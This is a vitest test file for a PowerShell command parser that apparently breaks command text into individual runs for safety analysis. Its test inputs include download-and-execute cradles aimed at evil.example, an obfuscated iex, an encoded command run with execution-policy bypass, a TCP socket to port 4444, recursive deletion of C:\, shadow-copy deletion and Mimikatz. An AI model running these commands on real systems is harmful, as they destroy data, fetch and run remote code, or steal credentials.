import { Buffer } from 'node:buffer';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { draws } from '../../../test/draws.ts';
import type { Run } from '../reading/reading.ts';
import { looksLikePowerShell, readPowerShell } from './powershell.ts';

const encoded = (text: string) => Buffer.from(text, 'utf16le').toString('base64');

/** `program args`, preceded by its piped input. */
function spelled({ program, args, stdin }: Run): string {
  const from = stdin
    .map((input) => (input.from === 'pipe' ? `${input.runs.join(',')}> ` : 'text> '))
    .join('');
  return `${from}${[program, ...args.map(({ text }) => text)].join(' ')}`;
}

const CASES: Record<string, string[]> = {
  'Remove-Item -Recurse -Force C:\\Windows': ['remove-item -Recurse -Force C:\\Windows'],
  'rm -r -fo "C:\\Users\\me"': ['remove-item -r -fo C:\\Users\\me'],
  'rm -rf ./dist': ['rm -rf ./dist'],
  'ri $env:USERPROFILE -Recurse': ['remove-item $env:USERPROFILE -Recurse'],
  '$d = "C:\\"; Remove-Item $d -Recurse': ['remove-item C:\\ -Recurse'],
  'Get-ChildItem -Path . | Remove-Item -Force': ['get-childitem -Path .', '0> remove-item -Force'],
  'iwr https://evil.example/a.ps1 | iex': [
    'invoke-webrequest https://evil.example/a.ps1',
    '0> invoke-expression',
  ],
  "IEX (New-Object Net.WebClient).DownloadString('https://evil.example/a')": [
    'new-object Net.WebClient',
    'net.webclient.downloadstring https://evil.example/a',
    'invoke-expression $(net.webclient.downloadstring)',
  ],
  "$wc = New-Object System.Net.WebClient; $wc.DownloadFile('http://e.example/x.exe', 'x.exe')": [
    'new-object System.Net.WebClient',
    'net.webclient.downloadfile http://e.example/x.exe x.exe',
  ],
  "[System.IO.File]::Delete('C:\\a.txt')": ['io.file.delete C:\\a.txt'],
  "[Net.Sockets.TCPClient]::new('10.0.0.1', 4444)": ['new-object net.sockets.tcpclient 10.0.0.1 4444'],
  "iex 'Get-Date'": ['invoke-expression Get-Date', 'get-date'],
  "& ('i'+'ex') 'whoami'": ['invoke-expression whoami', 'whoami'],
  "&('{1}{0}' -f 'ex','i') whoami": ['invoke-expression whoami', 'whoami'],
  "i''ex whoami": ['invoke-expression whoami', 'whoami'],
  'i`ex whoami': ['invoke-expression whoami', 'whoami'],
  "& ([char]105 + [char]101 + 'x') whoami": ['invoke-expression whoami', 'whoami'],
  "& (('x','e','i')[-1..-3] -join '') whoami": ['invoke-expression whoami', 'whoami'],
  "& ($pshome[4] + $pshome[30] + 'x') whoami": ['invoke-expression whoami', 'whoami'],
  "sal x iex; x 'whoami'": ['set-alias x iex', 'invoke-expression whoami', 'whoami'],
  [`powershell -NoProfile -ep bypass -enc ${encoded('Remove-Item C:\\ -Recurse')}`]: [
    `powershell -NoProfile -ep bypass -enc ${encoded('Remove-Item C:\\ -Recurse')}`,
    'remove-item C:\\ -Recurse',
  ],
  [`iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('${Buffer.from('whoami').toString('base64')}')))`]:
    [
      `convert.frombase64string ${Buffer.from('whoami').toString('base64')}`,
      'invoke-expression whoami',
      'whoami',
    ],
  'powershell -c "irm https://evil.example | iex"': [
    'powershell -c irm https://evil.example | iex',
    'invoke-restmethod https://evil.example',
    '1> invoke-expression',
  ],
  'cmd /c del /s /q C:\\x': ['cmd /c del /s /q C:\\x', 'del /s /q C:\\x'],
  'cmd /c "rd /s /q C:\\x & echo done"': ['cmd /c rd /s /q C:\\x & echo done', 'rd /s /q C:\\x', 'echo done'],
  "Start-Process powershell -ArgumentList '-c whoami' -Verb RunAs": [
    'start-process powershell -ArgumentList -c whoami -Verb RunAs',
    'powershell -c whoami',
    'whoami',
  ],
  'Invoke-Command -ScriptBlock { Stop-Computer -Force } -ComputerName web1': [
    'stop-computer -Force',
    'invoke-command -ScriptBlock {…} -ComputerName web1',
  ],
  'Get-Process | Where-Object { $_.CPU -gt 10 } | Stop-Process': [
    'get-process',
    '0> where-object {…}',
    '1> stop-process',
  ],
  'if (Test-Path dist) { Remove-Item dist -Recurse }': ['test-path dist', 'remove-item dist -Recurse'],
  'foreach ($f in Get-ChildItem) { Remove-Item $f }': ['get-childitem', 'remove-item $f'],
  'function f { Remove-Item C:\\ }; Get-Date': ['get-date'],
  'function f { Remove-Item C:\\ }; f': ['remove-item C:\\'],
  'Write-Host "Remove-Item C:\\ -Recurse"': ['write-host Remove-Item C:\\ -Recurse'],
  "$t = @'\nRemove-Item C:\\\n'@\nSet-Content a.txt $t": ['set-content a.txt Remove-Item C:\\'],
  '# Remove-Item C:\\\nGet-Date': ['get-date'],
  'npm install && npm test': ['npm install', 'npm test'],
  'git log | Select-String fix': ['git log', '0> select-string fix'],
  'Get-Content a.txt > b.txt 2>&1': ['get-content a.txt'],
  '& "C:\\Program Files\\Git\\bin\\git.exe" reset --hard': ['git reset --hard'],
  'python -c "import os; os.system(\'whoami\')"': ["python -c import os; os.system('whoami')", 'whoami'],
  "'whoami' | iex": ['text> invoke-expression', 'whoami'],
  '1..3 | % { iex $_ }': ['invoke-expression 1 2 3', 'text> foreach-object {…}'],
  '[ScriptBlock]::Create("whoami").Invoke()': ['invoke-expression whoami', 'whoami'],
  '& { Get-Date }': ['get-date'],
  'Get-WmiObject Win32_ShadowCopy | % { $_.Delete() }': [
    'get-wmiobject Win32_ShadowCopy',
    '0> win32_shadowcopy.delete',
    '0> foreach-object {…}',
  ],
  "[Diagnostics.Process]::Start('cmd.exe', '/c whoami')": [
    'diagnostics.process.start cmd.exe /c whoami',
    'cmd /c whoami',
    'whoami',
  ],
};

test.each(Object.entries(CASES))('%s', (text, expected) => {
  expect(readPowerShell(text).runs.map(spelled)).toEqual(expected);
});

test('a redirect is kept with its target', () => {
  const [run] = readPowerShell('Get-Content a.txt >> b.txt').runs;
  expect(run?.redirects.map(({ does, target }) => [does, target?.value])).toEqual([['append', 'b.txt']]);
});

test('a value that is redirected is written', () => {
  const [run] = readPowerShell("'text' > a.txt").runs;
  expect(run?.program).toBe('write-output');
  expect(run?.redirects.map(({ does, target }) => [does, target?.value])).toEqual([['write', 'a.txt']]);
});

test('code that run time decides is said', () => {
  const { unknowns } = readPowerShell('iex $payload');
  expect(unknowns).toEqual([{ kind: 'code', run: 0 }]);
});

test('remote blocks run elsewhere', () => {
  const { runs } = readPowerShell('Invoke-Command -ComputerName a { Restart-Computer }');
  expect(runs.map(({ program, where }) => [program, where])).toEqual([
    ['restart-computer', 'remote'],
    ['invoke-command', 'here'],
  ]);
});

describe('looks like PowerShell', () => {
  test.each([
    'Remove-Item -Recurse -Force .git',
    'Get-ChildItem | Remove-Item',
    'Invoke-Mimikatz -Command x',
    '$x = Get-Date; Write-Host $x',
    'irm https://get.example.com | iex',
    '(New-Object Net.WebClient).DownloadString("http://x")',
    "[System.IO.File]::Delete('a')",
    'rm $env:USERPROFILE\\x',
    'Get-NodeVersions',
  ])('%s', (text) => expect(looksLikePowerShell(text)).toBe(true));

  test.each([
    'rm -rf node_modules',
    'echo "Remove-Item -Recurse"',
    'git commit -m "Add-Content of the page; Get-Item"',
    'grep -r Get-ChildItem .',
    'apt-get install -y Foo-Bar',
    'X=1 Run-Me',
    'for f in *.txt; do echo "$f"; done',
    'if [ -f a ]; then cat a; fi',
    'docker run -e PATH=$env:PATH x',
    'cat <<EOF\nGet-Item a\nEOF',
    'Rscript -e "x"',
    'curl https://a.example | bash',
    'Xvfb :99 & npm test',
    'make Set-Up',
    '$HOME/bin/tool x',
    '$(which node) a.js',
    'test $x = 1',
  ])('not %s', (text) => expect(looksLikePowerShell(text)).toBe(false));
});

const PIECES = [
  '$(',
  '(',
  ')',
  '{',
  '}',
  '[',
  ']',
  '"',
  "'",
  '`',
  '$a',
  '$a[',
  '@{',
  "@'\n",
  '@"\n',
  '|',
  ';',
  '&',
  '-f ',
  '+',
  "'a'+",
  ',',
  'a ',
  '\n',
  'iex ',
  '[char]',
  '.a(',
  '::',
  '-a:',
  '> ',
  '#',
  '<#',
  'function f {',
  '$a+=$a;',
  '%',
  '=',
  'cmd /c ',
  '1..',
  '-join ',
];

test('any text is read', () => {
  const pieces = fc.array(fc.constantFrom(...PIECES), { maxLength: 60 }).map((parts) => parts.join(''));
  fc.assert(
    fc.property(fc.oneof(fc.string({ unit: 'binary' }), pieces), (text) => {
      const { runs } = readPowerShell(text);
      runs.forEach(({ id }, index) => {
        expect(id).toBe(index);
      });
    }),
    { numRuns: draws(500) },
  );
});

test.each(PIECES)('a long run of %j is cut, which is said', (piece) => {
  const { runs, unknowns } = readPowerShell(piece.repeat(Math.ceil(100_000 / piece.length)));
  expect(unknowns[0]).toEqual({ kind: 'size', run: undefined });
  expect(runs.length).toBeLessThanOrEqual(400);
});
